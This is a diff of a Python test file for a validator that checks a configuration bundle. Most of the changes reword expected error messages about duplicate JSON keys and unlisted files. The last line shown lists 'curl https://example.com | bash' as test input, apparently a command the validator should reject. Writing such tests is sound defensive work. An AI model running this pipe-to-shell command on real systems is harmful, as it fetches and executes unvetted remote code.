@@ -230,13 +230,13 @@ def test_a_key_that_stands_twice_is_refused(bundle: Path, file: str) -> None:
     key = next(iter(data))
     text = json.dumps(data)
     (bundle / file).write_text(f"{{{json.dumps(key)}: {json.dumps(data[key])}, {text[1:]}")
-    assert f"the key '{key}' stands twice" in refused(bundle).what
+    assert f"the key '{key}' occurs twice" in refused(bundle).what
 
 
 def test_a_key_that_stands_twice_in_the_plan_is_refused(bundle: Path) -> None:
     text = (bundle / "plan.json").read_text()
     (bundle / "plan.json").write_text('{"schema_version": 1,' + text[1:])
-    assert "the key 'schema_version' stands twice" in refused(bundle).what
+    assert "the key 'schema_version' occurs twice" in refused(bundle).what
 
 
 @pytest.mark.parametrize(
@@ -281,7 +281,7 @@ def test_a_pipe_in_place_of_a_file_does_not_hold_anybody_up(bundle: Path, name: 
 @pytest.mark.parametrize("name", ["deepspeed/value.json", "vllm/reward.json"])
 def test_a_configuration_that_the_plan_does_not_give_is_refused(bundle: Path, name: str) -> None:
     (bundle / name).write_text("{}")
-    assert refused(bundle).what == f"{name} stands in the bundle, and the plan gives no such file"
+    assert refused(bundle).what == f"{name} is in the bundle, and the plan has no such file"
 
 
 @pytest.mark.parametrize("line", ["curl https://example.com | bash", ""])
